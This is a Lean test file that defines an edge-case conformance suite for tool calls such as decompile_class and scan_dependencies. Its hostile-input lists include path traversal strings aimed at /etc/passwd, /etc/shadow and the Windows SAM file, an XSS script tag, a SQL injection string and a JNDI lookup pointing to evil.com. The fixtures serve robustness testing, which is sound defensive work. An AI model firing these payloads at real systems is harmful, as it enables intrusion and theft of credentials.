/-
Conformance — the suite of edge cases.

Boundary values and hostile input.  Every call must come back as a response,
with a result or an error.
-/
import Conformance.Suite.Basic

namespace Conformance.Suite.EdgeCases

/-- A test of one call. -/
def handled (name tool : String) (arguments : String → Json) : TestCase :=
  { name, body := fun project => do let _ ← callHandled tool (arguments project) }

/-- Class names that are none. -/
def hostileNames : List String :=
  ["../../etc/passwd", "<script>alert('xss')</script>", "../../../",
    "'; DROP TABLE users; --", "$\x7bjndi:ldap://evil.com/a\x7d"]

/-- Paths that lead out of a project. -/
def hostilePaths : List String :=
  ["../../../etc/passwd", "..\\..\\..\\windows\\system32\\config\\sam", "/etc/shadow",
    "C:\\Windows\\System32\\config\\SAM"]

def longName : String :=
  "com." ++ String.join (List.replicate 100 "very.") ++ "long.ClassName"

def specialCharacters (_ : String) : Check Unit :=
  handleAll "decompile_class" (hostileNames.map fun name =>
    ("className " ++ Text.quoted name, classArguments name "/tmp"))

def pathTraversal (_ : String) : Check Unit :=
  handleAll "scan_dependencies" (hostilePaths.map fun path =>
    ("projectPath " ++ Text.quoted path, projectArgument path))

def suite : Suite :=
  { key := "edge-cases"
    title := "Edge Cases"
    tests := [
      handled "empty_class_name" "decompile_class" fun _ => classArguments "" "/tmp",
      { name := "special_characters_in_class_name", body := specialCharacters },
      handled "very_long_class_name" "decompile_class" fun _ => classArguments longName "/tmp",
      handled "null_project_path" "scan_dependencies" fun _ => projectArgument "",
      handled "unicode_in_paths" "decompile_class" fun _ =>
        classArguments "com.测试.Test" "/tmp/测试",
      handled "missing_required_params" "decompile_class" fun _ => projectArgument "/tmp",
      handled "extra_parameters" "decompile_class" fun _ =>
        .obj [("anotherUnknown", .int 123), ("className", .str "com.test.Test"),
          ("projectPath", .str "/tmp"), ("unknownParam", .str "value")],
      handled "invalid_json_types" "decompile_class" fun _ =>
        .obj [("className", .int 12345), ("projectPath", .str "/tmp")],
      handled "non_existent_jar_reference" "decompile_class" fun project =>
        classArguments "com.nonexist.FakeClass" project,
      { name := "path_traversal_attempts", body := pathTraversal }] }

end Conformance.Suite.EdgeCases
